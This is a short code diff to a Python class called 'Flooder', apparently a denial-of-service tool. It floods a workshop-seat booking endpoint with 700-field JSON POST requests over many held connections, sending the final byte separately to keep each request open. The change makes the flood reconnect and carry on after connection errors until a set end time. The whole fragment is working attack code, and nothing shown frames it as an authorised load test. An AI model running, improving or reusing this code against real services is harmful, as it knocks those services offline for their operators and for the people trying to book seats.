@@ -94,9 +94,9 @@ class Flooder:
         body = json.dumps({f"field {number}": number for number in range(700)}).encode()
         head = f"POST /api/workshops/{self._code}/seats HTTP/1.1\r\nHost: {self._address.netloc}\r\n"
         head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
-        with ExitStack() as stack:
-            opened = [stack.enter_context(self._connect()) for _ in range(HELD_CONNECTIONS)]
-            while time.monotonic() < self._end:
+        while time.monotonic() < self._end:
+            with suppress(OSError), ExitStack() as stack:
+                opened = [stack.enter_context(self._connect()) for _ in range(HELD_CONNECTIONS)]
                 for part in (head.encode() + body[:-1], body[-1:]):
                     for connection in opened:
                         connection.sendall(part)
